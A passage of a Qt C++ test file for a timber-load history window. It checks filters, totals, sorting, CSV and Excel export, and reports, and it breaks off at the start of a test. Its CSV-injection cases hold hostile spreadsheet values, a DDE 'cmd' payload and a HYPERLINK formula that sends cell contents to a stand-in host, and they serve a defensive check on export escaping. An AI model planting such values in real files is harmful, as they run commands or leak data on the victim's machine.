// The history window driven by its controls' names against a real SQLite
// file of hand-counted loads: filters and the totals line, sorting in the
// store, opening a load, the CSV file byte for byte, the Excel rows on the
// in-memory spreadsheet, the report and its chart, the PDF, failed reads
// and writes, and pictures of both tabs.

#include "history/load_table_model.h"
#include "history/sqlite_history_store.h"
#include "history_samples.h"
#include "history_window/csv_text.h"
#include "history_window/history.h"
#include "history_window/report_tab.h"
#include "memory_workbook.h"
#include "test_answers.h"

#include <QBarCategoryAxis>
#include <QBarSeries>
#include <QBarSet>
#include <QChart>
#include <QChartView>
#include <QComboBox>
#include <QDateEdit>
#include <QHeaderView>
#include <QLabel>
#include <QLineEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QSqlQuery>
#include <QTabWidget>
#include <QTableView>
#include <QTableWidget>
#include <QValueAxis>
#include <QtTest>

Q_DECLARE_METATYPE(LoadRecord)

namespace {

const QDate today(2026, 12, 9);

// Four loads in December 2026, one on each side of it. December: 4 loads,
// 27 pieces, 9.0058 m³, 7254.64 yuan.
QVector<LoadRecord> handCountedLoads()
{
    return {
        sampleLoad(LoadKind::StockIn, "2026-11-30 08:00", "杉木", "5", "1.0000", "800.00"),
        sampleLoad(LoadKind::StockIn, "2026-12-01 09:00", "杉木", "10", "2.2590", "1807.20"),
        sampleLoad(LoadKind::StockOut, "2026-12-05 10:00", "杉木", "3", "0.5000", "450.00",
            QStringLiteral("木业, \"东\"\n分号"), QStringLiteral("闽B99999")),
        sampleLoad(LoadKind::StockIn, "2026-12-20 11:00", "松木", "7", "3.1234", "2498.72",
            QStringLiteral("林场乙")),
        sampleLoad(LoadKind::Bill, "2026-12-31 16:00", "松木", "7", "3.1234", "2498.72",
            QStringLiteral("林场乙")),
        sampleLoad(LoadKind::StockIn, "2027-01-01 08:00", "松木", "9", "9.0000", "1.00"),
    };
}

// Types the text key by key, as an input method hands over Chinese.
void typeText(QWidget* widget, const QString& text)
{
    for (const QChar character : text) {
        QKeyEvent press(QEvent::KeyPress, Qt::Key_unknown, Qt::NoModifier, QString(character));
        QApplication::sendEvent(widget, &press);
        QKeyEvent release(QEvent::KeyRelease, Qt::Key_unknown, Qt::NoModifier, QString(character));
        QApplication::sendEvent(widget, &release);
    }
}

QString pdfText(const QString& path)
{
    QProcess convert;
    convert.start(QStringLiteral("pdftotext"),
        { QStringLiteral("-enc"), QStringLiteral("UTF-8"), path, QStringLiteral("-") });
    convert.waitForFinished(30000);
    return QString::fromUtf8(convert.readAllStandardOutput());
}

// The rows of a CSV file as a spreadsheet program reads them back: quoted
// fields may hold commas, doubled quotes and line breaks.
QVector<QStringList> readCsv(const QString& path)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return {};
    QString text = QString::fromUtf8(file.readAll());
    if (text.startsWith(QChar(0xFEFF)))
        text.remove(0, 1);
    QVector<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text[i + 1] == u'"')
                field += text[++i];
            else if (c == u'"')
                quoted = false;
            else
                field += c;
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            row << field;
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n') {
            row << field;
            rows << row;
            row.clear();
            field.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return rows;
}

// The store's reads, of which some fail as a busy file's would.
class FailingReader : public HistoryReader {
public:
    explicit FailingReader(HistoryStore& store)
        : m_store(store)
    {
    }
    bool speciesFail = false;
    bool listingBreaks = false; // after a first full page

    QString location() const override { return m_store.location(); }
    Result<std::unique_ptr<LoadCursor>> listLoads(
        const LoadFilter& filter, LoadColumn sortBy, Qt::SortOrder order) override
    {
        if (listingBreaks)
            return std::unique_ptr<LoadCursor>(std::make_unique<BreakingCursor>(busy()));
        return m_store.listLoads(filter, sortBy, order);
    }
    Result<KindTotals> totals(const LoadFilter& filter) override { return m_store.totals(filter); }
    Result<QVector<ReportRow>> stockReport(
        const LoadFilter& filter, ReportGrouping grouping) override
    {
        return m_store.stockReport(filter, grouping);
    }
    Result<QStringList> recordedSpecies() override
    {
        if (speciesFail)
            return busy();
        return m_store.recordedSpecies();
    }
    Result<QStringList> recordedStations() override { return m_store.recordedStations(); }
    Result<QStringList> recentValues(LoadColumn column) override
    {
        return m_store.recentValues(column);
    }
    Result<std::optional<LoadRecord>> loadById(qint64 id) override { return m_store.loadById(id); }

private:
    class BreakingCursor : public LoadCursor {
    public:
        explicit BreakingCursor(Failure error)
            : m_error(std::move(error))
        {
        }
        Result<QVector<ListedLoad>> next(int count) override
        {
            if (m_pages++ > 0)
                return m_error;
            return QVector<ListedLoad>(count);
        }

    private:
        Failure m_error;
        int m_pages = 0;
    };

    Failure busy() const
    {
        return Failure(
            FailureCause::Locked, m_store.location(), QStringLiteral("database is locked (5)"));
    }
    HistoryStore& m_store;
};

} // namespace

class TestHistoryWindow : public QObject {
    Q_OBJECT

private slots:
    void init();
    void cleanup();
    void filtersSelectLoadsAndTotalsAreExact_data();
    void filtersSelectLoadsAndTotalsAreExact();
    void periodPresetsSetBothDates_data();
    void periodPresetsSetBothDates();
    void headingClickSortsInTheStore();
    void doubleClickAndButtonsHandOverTheWholeLoad();
    void csvHoldsWhatIsShownByteForByte();
    void csvCellsThatWouldRunAreWrittenAsText_data();
    void csvCellsThatWouldRunAreWrittenAsText();
    void csvOfTypedFormulasOpensAsText();
    void aLoadBilledStockedInAndOutIsCountedOncePerKind();
    void excelRowsAreTypedNumbersAndTexts();
    void exportIntoUnwritableFolderSaysSoAndChangesNothing();
    void officeFailureIsNamedAndTheWindowIsFreeAgain();
    void reportAndChartMatchHandCounts();
    void reportPrintsAsPdfWithItsTitle();
    void reportNotSavedIsSaidOnce();
    void failedReadIsShownInTheWindowNotInBoxes();
    void damagedLoadIsNotHandedOver();
    void speciesNotReadIsSaidUntilTheyAre();
    void exportOfRowsNotAllReadWritesNothing();
    void refreshShowsNewLoadsKeepingFiltersAndSort();
    void handEditedHistoryStaysBoundedAndSaysItsTotalsAreOutOfRange();
    void picturesOfBothTabsShowEveryText();

private:
    QTableView* table() const
    {
        return m_window->findChild<QTableView*>(QStringLiteral("loadsTable"));
    }
    QLabel* label(const char* name) const
    {
        return m_window->findChild<QLabel*>(QString::fromLatin1(name));
    }
    QPushButton* push(const char* name) const
    {
        return m_window->findChild<QPushButton*>(QString::fromLatin1(name));
    }
    QComboBox* combo(const char* name) const
    {
        return m_window->findChild<QComboBox*>(QString::fromLatin1(name));
    }
    QDateEdit* date(const char* name) const
    {
        return m_window->findChild<QDateEdit*>(QString::fromLatin1(name));
    }
    QStringList column(int column) const;
    int rowOfBuyer(const QString& buyer) const;

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<SqliteHistoryStore> m_store;
    std::unique_ptr<MemorySpreadsheet> m_spreadsheet;
    std::unique_ptr<History> m_window;
    QVector<LoadRecord> m_loads;
    QString m_savePath;
    std::unique_ptr<TestAnswers> m_answers;
};

void TestHistoryWindow::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    m_store
        = std::make_unique<SqliteHistoryStore>(m_dir->filePath(QStringLiteral("quorvane.sqlite")));
    m_loads = handCountedLoads();
    for (LoadRecord& load : m_loads)
        m_store->record(load);
    m_spreadsheet = std::make_unique<MemorySpreadsheet>();
    m_window = std::make_unique<History>(*m_store, *m_spreadsheet, [] { return today; });
    m_window->setSavePathAsker(
        [this](const QString&, const QString&, const QString&) { return m_savePath; });
    m_window->show();
    QVERIFY(QTest::qWaitForWindowExposed(m_window.get()));
    m_answers = std::make_unique<TestAnswers>();
}

void TestHistoryWindow::cleanup()
{
    QCOMPARE(m_answers->waitingAnswers(), 0);
    m_answers.reset();
    m_window.reset();
    m_store.reset();
    m_dir.reset();
}

QStringList TestHistoryWindow::column(int column) const
{
    QStringList texts;
    for (int row = 0; row < table()->model()->rowCount(); ++row)
        texts << table()->model()->index(row, column).data().toString();
    return texts;
}

int TestHistoryWindow::rowOfBuyer(const QString& buyer) const
{
    return int(column(shownIndex(LoadColumn::Buyer)).indexOf(buyer));
}

namespace {

// The totals under 全部: one line per kind.
QString perKind(const char* in, const char* out, const char* bills)
{
    return QStringLiteral("入库：%1\n出库：%2\n账单：%3")
        .arg(QString::fromUtf8(in), QString::fromUtf8(out), QString::fromUtf8(bills));
}

const char* const none = "共 0 车，件数 0，材积 0.0000 m³，金额 0.00 元";

} // namespace

void TestHistoryWindow::filtersSelectLoadsAndTotalsAreExact_data()
{
    QTest::addColumn<QDate>("from");
    QTest::addColumn<QDate>("to");
    QTest::addColumn<int>("kind");
    QTest::addColumn<QString>("species");
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("totals");
    QTest::addColumn<int>("loads");
    const QDate first(2026, 12, 1), last(2026, 12, 31);
    const char* in = "共 2 车，件数 17，材积 5.3824 m³，金额 4305.92 元";
    const char* out = "共 1 车，件数 3，材积 0.5000 m³，金额 450.00 元";
    const char* bill = "共 1 车，件数 7，材积 3.1234 m³，金额 2498.72 元";
    QTest::newRow("this month by default, kind by kind") << first << last << 0 << "全部"
                                                         << "" << perKind(in, out, bill) << 4;
    QTest::newRow("stock in only") << first << last << 1 << "全部"
                                   << "" << in << 2;
    QTest::newRow("bills only") << first << last << 3 << "全部"
                                << "" << bill << 1;
    QTest::newRow("one species") << first << last << 0 << "松木"
                                 << ""
                                 << perKind("共 1 车，件数 7，材积 3.1234 m³，金额 2498.72 元",
                                        none, bill)
                                 << 2;
    QTest::newRow("a range over both month ends")
        << QDate(2026, 11, 30) << QDate(2027, 1, 1) << 0 << "全部"
        << "" << perKind("共 4 车，件数 31，材积 15.3824 m³，金额 5106.92 元", out, bill) << 6;
    QTest::newRow("a range of days without loads")
        << QDate(2026, 12, 10) << QDate(2026, 12, 15) << 0 << "全部"
        << "" << perKind(none, none, none) << 0;
    QTest::newRow("text inside a buyer's name") << first << last << 0 << "全部"
                                                << "东" << perKind(none, out, none) << 1;
    QTest::newRow("text of a truck number") << first << last << 2 << "全部"
                                            << "闽B" << out << 1;
    QTest::newRow("text of a supplier with a kind") << first << last << 1 << "全部"
                                                    << "供方" << in << 2;
    QTest::newRow("a wildcard is found as typed") << first << last << 0 << "全部"
                                                  << "%" << perKind(none, none, none) << 0;
}

void TestHistoryWindow::filtersSelectLoadsAndTotalsAreExact()
{
    QFETCH(QDate, from);
    QFETCH(QDate, to);
    QFETCH(int, kind);
    QFETCH(QString, species);
    QFETCH(QString, text);
    QFETCH(QString, totals);
    QFETCH(int, loads);
    QCOMPARE(date("fromDate")->date(), QDate(2026, 12, 1));
    QCOMPARE(date("toDate")->date(), QDate(2026, 12, 31));
    date("fromDate")->setDate(from);
    date("toDate")->setDate(to);
    combo("kindFilter")->setCurrentIndex(kind);
    QComboBox* speciesBox = combo("speciesFilter");
    QCOMPARE(speciesBox->count(), 3); // 全部, 杉木, 松木
    speciesBox->setCurrentIndex(speciesBox->findText(species));
    typeText(m_window->findChild<QLineEdit*>(QStringLiteral("textFilter")), text);
    QCOMPARE(label("totalsLabel")->text(), totals);
    QCOMPARE(table()->model()->rowCount(), loads);
    // The table holds exactly the loads the totals count, kind by kind.
    KindTotals listed;
    for (int row = 0; row < loads; ++row) {
        auto value
            = [&](int column) { return table()->model()->index(row, column).data(Qt::EditRole); };
        LoadTotals& sums = listed.of(LoadKind(value(shownIndex(LoadColumn::Kind)).toInt()));
        ++sums.loads;
        const auto units
            = [&](LoadColumn column) { return value(shownIndex(column)).toLongLong(); };
        sums.pieces = *sums.pieces.plus(TenThousandths::fromUnits(units(LoadColumn::Pieces)));
        sums.volume = *sums.volume.plus(TenThousandths::fromUnits(units(LoadColumn::Volume)));
        sums.amount = *sums.amount.plus(Fen::fromUnits(units(LoadColumn::Amount)));
    }
    QCOMPARE(kindTotalsText(listed, kind), totals);
}

void TestHistoryWindow::periodPresetsSetBothDates_data()
{
    QTest::addColumn<QString>("preset");
    QTest::addColumn<QDate>("from");
    QTest::addColumn<QDate>("to");
    QTest::newRow("去年 is the whole of last year")
        << "去年" << QDate(2025, 1, 1) << QDate(2025, 12, 31);
    QTest::newRow("上月 is the month before")
        << "上月" << QDate(2026, 11, 1) << QDate(2026, 11, 30);
    QTest::newRow("今年 is this year") << "今年" << QDate(2026, 1, 1) << QDate(2026, 12, 31);
}

void TestHistoryWindow::periodPresetsSetBothDates()
{
    QFETCH(QString, preset);
    QFETCH(QDate, from);
    QFETCH(QDate, to);
    for (const char* box : { "periodPresets", "reportPresets" }) {
        QComboBox* presets = combo(box);
        const int index = presets->findText(preset);
        QVERIFY(index > 0);
        presets->setCurrentIndex(index);
        emit presets->activated(index);
        const bool list = QByteArray(box) == "periodPresets";
        QCOMPARE(date(list ? "fromDate" : "reportFrom")->date(), from);
        QCOMPARE(date(list ? "toDate" : "reportTo")->date(), to);
        QCOMPARE(presets->currentText(), preset);
        // A date set by hand is no preset.
        date(list ? "toDate" : "reportTo")->setDate(to.addDays(-1));
        QCOMPARE(presets->currentIndex(), 0);
    }
}

void TestHistoryWindow::headingClickSortsInTheStore()
{
    QCOMPARE(column(shownIndex(LoadColumn::RecordedAt)),
        (QStringList {
            "2026-12-31 16:00", "2026-12-20 11:00", "2026-12-05 10:00", "2026-12-01 09:00" }));
    QHeaderView* header = table()->horizontalHeader();
    auto clickHeading = [header](int section) {
        const QPoint middle(
            header->sectionViewportPosition(section) + header->sectionSize(section) / 2,
            header->height() / 2);
        QTest::mouseClick(header->viewport(), Qt::LeftButton, {}, middle);
    };
    clickHeading(shownIndex(LoadColumn::Amount));
    QCOMPARE(header->sortIndicatorSection(), shownIndex(LoadColumn::Amount));
    QStringList ascending { "450.00", "1807.20", "2498.72", "2498.72" };
    QStringList descending(ascending.rbegin(), ascending.rend());
    const bool up = header->sortIndicatorOrder() == Qt::AscendingOrder;
    QCOMPARE(column(shownIndex(LoadColumn::Amount)), up ? ascending : descending);
    clickHeading(shownIndex(LoadColumn::Amount));
    QCOMPARE(column(shownIndex(LoadColumn::Amount)), up ? descending : ascending);
    // Equal amounts keep one order: by id in the same direction.
    clickHeading(shownIndex(LoadColumn::Species));
    const QStringList species = column(shownIndex(LoadColumn::Species));
    QVERIFY(species == (QStringList { "杉木", "杉木", "松木", "松木" })
        || species == (QStringList { "松木", "松木", "杉木", "杉木" }));
}

void TestHistoryWindow::doubleClickAndButtonsHandOverTheWholeLoad()
{
    QSignalSpy opened(m_window.get(), &History::openLoadRequested);
    QSignalSpy reprinted(m_window.get(), &History::reprintRequested);
    QPushButton* open = push("openButton");
    QPushButton* reprint = push("reprintButton");
    QVERIFY(!open->isEnabled());
    QVERIFY(!reprint->isEnabled());

    const int stockOut = rowOfBuyer(m_loads[2].tally.captions[Tally::Buyer].value);
    QVERIFY(stockOut >= 0);
    const QRect cell
        = table()->visualRect(table()->model()->index(stockOut, shownIndex(LoadColumn::Species)));
    QTest::mouseClick(table()->viewport(), Qt::LeftButton, {}, cell.center());
    QTest::mouseDClick(table()->viewport(), Qt::LeftButton, {}, cell.center());
    QCOMPARE(opened.size(), 1);
    QCOMPARE(opened[0][0].value<LoadRecord>(), m_loads[2]);
    QVERIFY(open->isEnabled());
    QVERIFY2(!reprint->isEnabled(), "a stock out has no bill to print again");

    table()->selectRow(0); // the bill, newest first
    QVERIFY(reprint->isEnabled());
    QTest::mouseClick(reprint, Qt::LeftButton);
    QCOMPARE(reprinted.size(), 1);
    QCOMPARE(reprinted[0][0].value<LoadRecord>(), m_loads[4]);
    QTest::mouseClick(open, Qt::LeftButton);
    QCOMPARE(opened.size(), 2);
    QCOMPARE(opened[1][0].value<LoadRecord>().billNumber, QStringLiteral("2026-12-31-001"));
}

void TestHistoryWindow::csvHoldsWhatIsShownByteForByte()
{
    m_savePath = m_dir->filePath(QStringLiteral("导出 12月.csv"));
    QSignalSpy exported(m_window.get(), &History::exported);
    QTest::mouseClick(push("csvButton"), Qt::LeftButton);
    QCOMPARE(exported.size(), 1);
    QFile file(m_savePath);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray expected = QByteArray("\xEF\xBB\xBF")
        + QStringLiteral(
            "日期,时间,类别,账单编号,树种,购货单位,供货单位,车号,联系人,检尺员,件数,材积(m³),金额("
            "元),检尺站\r\n"
            "2026-12-31,16:00:00,账单,2026-12-31-001,松木,林场乙,供方乙,闽A12345,张三,李四,7,3."
            "1234,2498.72,\r\n"
            "2026-12-20,11:00:00,入库,,松木,林场乙,供方乙,闽A12345,张三,李四,7,3.1234,2498.72,\r\n"
            "2026-12-05,10:00:00,出库,,杉木,\"木业, "
            "\"\"东\"\"\n分号\",供方乙,闽B99999,张三,李四,3,0.5000,450.00,\r\n"
            "2026-12-01,09:00:00,入库,,杉木,林场甲,供方乙,闽A12345,张三,李四,10,2.2590,1807.20,\r\n"
            "合计,,入库,共 2 车,,,,,,,17,5.3824,4305.92,\r\n"
            "合计,,出库,共 1 车,,,,,,,3,0.5000,450.00,\r\n"
            "合计,,账单,共 1 车,,,,,,,7,3.1234,2498.72,\r\n")
              .toUtf8();
    QCOMPARE(file.readAll(), expected);
    QVERIFY(label("statusLabel")->text().contains(m_savePath));
}

// A spreadsheet program runs a cell beginning with =, +, -, @, a tab or a
// carriage return: a typed text opens as text, the program's numbers stay numbers.
void TestHistoryWindow::csvCellsThatWouldRunAreWrittenAsText_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("numberColumn");
    QTest::addColumn<QString>("field");
    QTest::newRow("A link formula gets an apostrophe inside its quotes")
        << "=HYPERLINK(\"http://x/?\"&A1,\"点击\")" << false
        << "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\"";
    QTest::newRow("A command after a plus gets an apostrophe")
        << "+cmd|' /C calc'!A0" << false << "'+cmd|' /C calc'!A0";
    QTest::newRow("A function after an at sign gets an apostrophe")
        << "@SUM(1)" << false << "'@SUM(1)";
    QTest::newRow("A typed text after a minus gets an apostrophe") << "-2+3" << false << "'-2+3";
    QTest::newRow("A typed number is a text like any other") << "-5" << false << "'-5";
    QTest::newRow("A leading tab gets an apostrophe") << "\t=1" << false << "'\t=1";
    QTest::newRow("A leading carriage return gets an apostrophe, quoted")
        << "\r=1" << false << "\"'\r=1\"";
    QTest::newRow("An equals sign inside a text is left alone") << "A=1" << false << "A=1";
    QTest::newRow("A negative amount stays a number") << "-450.00" << true << "-450.00";
    QTest::newRow("A whole number of pieces stays a number") << "27" << true << "27";
    QTest::newRow("Anything else in a number column is a text") << "-1+1" << true << "'-1+1";
}

void TestHistoryWindow::csvCellsThatWouldRunAreWrittenAsText()
{
    QFETCH(QString, text);
    QFETCH(bool, numberColumn);
    QFETCH(QString, field);
    QCOMPARE(numberColumn ? csvNumberField(text) : csvField(text), field);
    const QByteArray row = csvBytes(
        { { QStringLiteral("x"), text } }, numberColumn ? QSet<int> { 1 } : QSet<int> {});
    QCOMPARE(row,
        QByteArray("\xEF\xBB\xBF")
            + (QStringLiteral("x,") + field + QStringLiteral("\r\n")).toUtf8());
}

// The exported file, as a spreadsheet program opens it: what was typed as
// formulas arrives as text, the amounts as numbers.
void TestHistoryWindow::csvOfTypedFormulasOpensAsText()
{
    LoadRecord load = sampleLoad(LoadKind::StockOut, "2026-12-09 14:00", "柏木", "2", "0.9000",
        "-450.00", QStringLiteral("=HYPERLINK(\"http://x\")"), QStringLiteral("@SUM(1)"));
    load.tally.captions[Tally::Supplier].value = QStringLiteral("+cmd|' /C calc'!A0");
    m_store->record(load);
    m_window->refresh();
    QLineEdit* text = m_window->findChild<QLineEdit*>(QStringLiteral("textFilter"));
    QVERIFY(text);
    text->setText(QStringLiteral("SUM"));
    QTRY_COMPARE(table()->model()->rowCount(), 1);
    m_savePath = m_dir->filePath(QStringLiteral("公式.csv"));
    QTest::mouseClick(push("csvButton"), Qt::LeftButton);
    QFile file(m_savePath);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QString rows = QString::fromUtf8(file.readAll());
    QVERIFY2(rows.contains(QStringLiteral(
                 "2026-12-09,14:00:00,出库,,柏木,\"'=HYPERLINK(\"\"http://x\"\")\",'+cmd|' /C "
                 "calc'!A0,'@SUM(1),张三,李四,2,0.9000,-450.00,\r\n")),
        qPrintable(rows));
}

// One truck scaled once, billed, stocked in and stocked out: the totals
// count it once in each kind and never add the kinds up; the CSV read back
// carries every field recorded.
void TestHistoryWindow::aLoadBilledStockedInAndOutIsCountedOncePerKind()
{
    const QVector<LoadKind> kinds { LoadKind::Bill, LoadKind::StockIn, LoadKind::StockOut };
    for (int i = 0; i < kinds.size(); ++i) {
        LoadRecord load = sampleLoad(kinds[i], QStringLiteral("2026-12-09 10:1%1").arg(i), "落叶松",
            "237", "27.5928", "22074.24", QStringLiteral("林场丙"), QStringLiteral("闽C55555"));
        load.recordedAt = load.recordedAt.addSecs(7);
        load.tally.captions[Tally::Contact].value = QStringLiteral("王五 13800000000");
        load.tally.scaler = QStringLiteral("赵六");
        load.station = QStringLiteral("一号门");
        load.stationNumber = 100 + i;
        QVERIFY(m_store->receive(load));
    }
    date("fromDate")->setDate(today);
    date("toDate")->setDate(today);
    const QString once = QStringLiteral("共 1 车，件数 237，材积 27.5928 m³，金额 22074.24 元");
    QCOMPARE(
        label("totalsLabel")->text(), QStringLiteral("入库：%1\n出库：%1\n账单：%1").arg(once));

    m_savePath = m_dir->filePath(QStringLiteral("一车.csv"));
    QTest::mouseClick(push("csvButton"), Qt::LeftButton);
    const QVector<QStringList> rows = readCsv(m_savePath);
    QCOMPARE(rows.size(), 1 + 3 + 3);
    const QStringList headings = rows[0];
    auto field = [&](int row, const char* heading) {
        return rows[row].value(headings.indexOf(QString::fromUtf8(heading)));
    };
    for (int row = 1; row <= 3; ++row) {
        QCOMPARE(rows[row].size(), headings.size());
        QCOMPARE(field(row, "日期"), QStringLiteral("2026-12-09"));
        QCOMPARE(field(row, "时间"), QStringLiteral("10:1%1:07").arg(3 - row));
        QCOMPARE(field(row, "联系人"), QStringLiteral("王五 13800000000"));
        QCOMPARE(field(row, "检尺员"), QStringLiteral("赵六"));
        QCOMPARE(field(row, "检尺站"), QStringLiteral("一号门"));
        QCOMPARE(field(row, "车号"), QStringLiteral("闽C55555"));
        QCOMPARE(field(row, "件数"), QStringLiteral("237"));
    }
    QCOMPARE(field(3, "账单编号"), QStringLiteral("2026-12-09-001"));
    QCOMPARE(field(1, "类别"), QStringLiteral("出库"));
    for (int row = 4; row <= 6; ++row) {
        QCOMPARE(field(row, "日期"), QStringLiteral("合计"));
        QCOMPARE(field(row, "类别"), loadKindText(LoadKind(row - 3)));
        QCOMPARE(field(row, "件数"), QStringLiteral("237"));
        QCOMPARE(field(row, "材积(m³)"), QStringLiteral("27.5928"));
        QCOMPARE(field(row, "金额(元)"), QStringLiteral("22074.24"));
    }

    // The report counts the truck in once and out once.
    m_window->findChild<QTabWidget*>(QStringLiteral("tabs"))->setCurrentIndex(1);
    date("reportFrom")->setDate(today);
    date("reportTo")->setDate(today);
    auto* report = m_window->findChild<QTableWidget*>(QStringLiteral("reportTable"));
    QCOMPARE(report->rowCount(), 2);
    QStringList larch;
    for (int c = 0; c < report->columnCount(); ++c)
        larch << report->item(0, c)->text();
    QCOMPARE(larch,
        (QStringList {
            "落叶松", "237", "27.5928", "22074.24", "237", "27.5928", "22074.24", "0.0000" }));
}

void TestHistoryWindow::excelRowsAreTypedNumbersAndTexts()
{
    m_savePath = m_dir->filePath(QStringLiteral("导出.xls"));
    QSignalSpy exported(m_window.get(), &History::exported);
    QTest::mouseClick(push("excelButton"), Qt::LeftButton);
    QTRY_COMPARE_WITH_TIMEOUT(exported.size(), 1, 10000);
    QVERIFY(!m_window->exportRunning());
    QVERIFY(push("excelButton")->isEnabled());
    QCOMPARE(m_spreadsheet->creates, 1);
    QCOMPARE(m_spreadsheet->copies.value(m_savePath), Workbook::CopyFormat::Excel97);
    const QVector<MemorySheet> sheets = m_spreadsheet->files.value(m_savePath);
    QCOMPARE(sheets.size(), 1);
    auto cell = [&](int row, int column) { return sheets[0].cells.value({ row, column }); };
    QCOMPARE(cell(1, 12).text, QStringLiteral("材积(m³)"));
    QVERIFY(!cell(1, 12).isNumber);
    QCOMPARE(cell(1, 14).text, QStringLiteral("检尺站"));
    QCOMPARE(cell(2, 3).text, QStringLiteral("账单"));
    QVERIFY(cell(2, 12).isNumber);
    QCOMPARE(cell(2, 12).number, 3.1234);
    QCOMPARE(cell(4, 6).text, QStringLiteral("木业, \"东\"\n分号"));
    QCOMPARE(cell(6, 1).text, QStringLiteral("合计"));
    QCOMPARE(cell(6, 3).text, QStringLiteral("入库"));
    QCOMPARE(cell(6, 13).number, 4305.92);
    QCOMPARE(cell(8, 3).text, QStringLiteral("账单"));
    QCOMPARE(cell(8, 13).number, 2498.72);
    QVERIFY(cell(9, 1).text.isEmpty());
}

void TestHistoryWindow::exportIntoUnwritableFolderSaysSoAndChangesNothing()
{
    UnwritableFolder folder(m_dir->filePath(QStringLiteral("只读")));
    m_savePath = folder.filePath(QStringLiteral("历史.csv"));
    {
        QFile earlier(m_savePath);
        QVERIFY(earlier.open(QIODevice::WriteOnly));
        earlier.write("earlier export");
    }
    if (!folder.lock())
        QSKIP("this machine cannot make a folder unwritable");
    const QString totals = label("totalsLabel")->text();
    m_answers->setNextAnswer(MessageAnswer::Ok);
    QTest::mouseClick(push("csvButton"), Qt::LeftButton);
    QCOMPARE(m_answers->texts(),
        QStringList(
            QStringLiteral("没有导出：无法保存文件“%1”：没有写入文件夹“%2”的权限。")
                .arg(QFileInfo(m_savePath).fileName(), QFileInfo(m_savePath).absolutePath())));
    QFile earlier(m_savePath);
    QVERIFY(earlier.open(QIODevice::ReadOnly));
    QCOMPARE(earlier.readAll(), QByteArray("earlier export"));
    QCOMPARE(QDir(QFileInfo(m_savePath).absolutePath()).entryList(QDir::Files | QDir::Hidden),
        QStringList { "历史.csv" });
    QCOMPARE(label("totalsLabel")->text(), totals);
    QCOMPARE(table()->model()->rowCount(), 4);
    QVERIFY(push("csvButton")->isEnabled());
}

void TestHistoryWindow::officeFailureIsNamedAndTheWindowIsFreeAgain()
{
    m_spreadsheet->beforeOperation = [](const QString& operation) {
        if (operation == QStringLiteral("create"))
            throw Failure(
                FailureCause::OfficeMissing, QString(), QStringLiteral("soffice not found"));
    };
    m_savePath = m_dir->filePath(QStringLiteral("导出.xls"));
    QSignalSpy exported(m_window.get(), &History::exported);
    m_answers->setNextAnswer(MessageAnswer::Ok);
    QTest::mouseClick(push("excelButton"), Qt::LeftButton);
    QTRY_COMPARE_WITH_TIMEOUT(m_answers->shown.size(), 1, 10000);
    QCOMPARE(m_answers->texts().first(),
        QStringLiteral("没有导出：找不到电子表格程序（LibreOffice Calc），请先安装它。"));
    QTRY_VERIFY(push("excelButton")->isEnabled());
    QVERIFY(push("csvButton")->isEnabled());
    QVERIFY(!QApplication::overrideCursor());
    QCOMPARE(exported.size(), 0);
    QVERIFY(!label("statusLabel")->text().contains(m_savePath));
    QVERIFY(!QFileInfo::exists(m_savePath));
}

void TestHistoryWindow::reportAndChartMatchHandCounts()
{
    auto* tabs = m_window->findChild<QTabWidget*>(QStringLiteral("tabs"));
    tabs->setCurrentIndex(1);
    auto* report = m_window->findChild<QTableWidget*>(QStringLiteral("reportTable"));
    auto rowTexts = [report](int row) {
        QStringList texts;
        for (int c = 0; c < report->columnCount(); ++c)
            texts << report->item(row, c)->text();
        return texts;
    };
    QCOMPARE(report->rowCount(), 3);
    QCOMPARE(rowTexts(0),
        (QStringList { "杉木", "10", "2.2590", "1807.20", "3", "0.5000", "450.00", "1.7590" }));
    QCOMPARE(rowTexts(1),
        (QStringList { "松木", "7", "3.1234", "2498.72", "0", "0.0000", "0.00", "3.1234" }));
    QCOMPARE(rowTexts(2),
        (QStringList { "合计", "17", "5.3824", "4305.92", "3", "0.5000", "450.00", "4.8824" }));
    QCOMPARE(report->horizontalHeaderItem(4)->text(), QStringLiteral("出库件数"));

    QChart* chart = m_window->findChild<QChartView*>(QStringLiteral("reportChart"))->chart();
    QCOMPARE(chart->series().size(), 1);
    auto* bars = qobject_cast<QBarSeries*>(chart->series().first());
    QVERIFY(bars);
    QCOMPARE(bars->barSets().size(), 2);
    QCOMPARE(bars->barSets()[0]->label(), QStringLiteral("入库"));
    QCOMPARE(bars->barSets()[0]->at(0), 2.2590);
    QCOMPARE(bars->barSets()[0]->at(1), 3.1234);
    QCOMPARE(bars->barSets()[1]->label(), QStringLiteral("出库"));
    QCOMPARE(bars->barSets()[1]->at(0), 0.5);
    QCOMPARE(bars->barSets()[1]->at(1), 0.0);
    auto* categories = qobject_cast<QBarCategoryAxis*>(chart->axes(Qt::Horizontal).first());
    QCOMPARE(categories->categories(), (QStringList { "杉木", "松木" }));

    // By month over three months; bills are no stock movement.
    date("reportFrom")->setDate(QDate(2026, 11, 1));
    date("reportTo")->setDate(QDate(2027, 1, 31));
    combo("reportGrouping")->setCurrentIndex(2);
    QCOMPARE(report->rowCount(), 4);
    QCOMPARE(rowTexts(0),
        (QStringList { "2026-11", "5", "1.0000", "800.00", "0", "0.0000", "0.00", "1.0000" }));
    QCOMPARE(rowTexts(2),
        (QStringList { "2027-01", "9", "9.0000", "1.00", "0", "0.0000", "0.00", "9.0000" }));
    QCOMPARE(rowTexts(3),
        (QStringList { "合计", "31", "15.3824", "5106.92", "3", "0.5000", "450.00", "14.8824" }));
    QCOMPARE(report->horizontalHeaderItem(0)->text(), QStringLiteral("月份"));
}

// A report that cannot be written is said once, not once per connection.
void TestHistoryWindow::reportNotSavedIsSaidOnce()
{
